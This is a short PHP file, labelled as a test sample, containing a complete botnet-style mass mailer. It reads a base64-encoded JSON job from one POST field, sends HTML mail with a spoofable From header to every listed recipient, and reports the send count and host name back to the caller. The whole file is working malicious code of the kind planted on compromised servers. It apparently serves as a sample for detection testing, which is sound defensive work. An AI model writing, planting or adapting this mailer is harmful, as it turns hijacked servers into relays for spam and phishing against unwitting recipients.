<?php
// Test sample: mailer driven by a base64 JSON job in one POST field
// (botnet-style: {"to":[...],"subject":"...","body":"...","from":"..."}).
$job = json_decode(base64_decode($_POST['job']), true);
if (is_array($job)) {
    $ok = 0;
    foreach ($job['to'] as $rcpt) {
        $ok += (int) mail($rcpt, '=?UTF-8?B?' . base64_encode($job['subject']) . '?=', $job['body'], 'From: ' . $job['from'] . "\r\nContent-Type: text/html; charset=UTF-8");
    }
    echo json_encode(array('sent' => $ok, 'host' => $_SERVER['HTTP_HOST']));
}
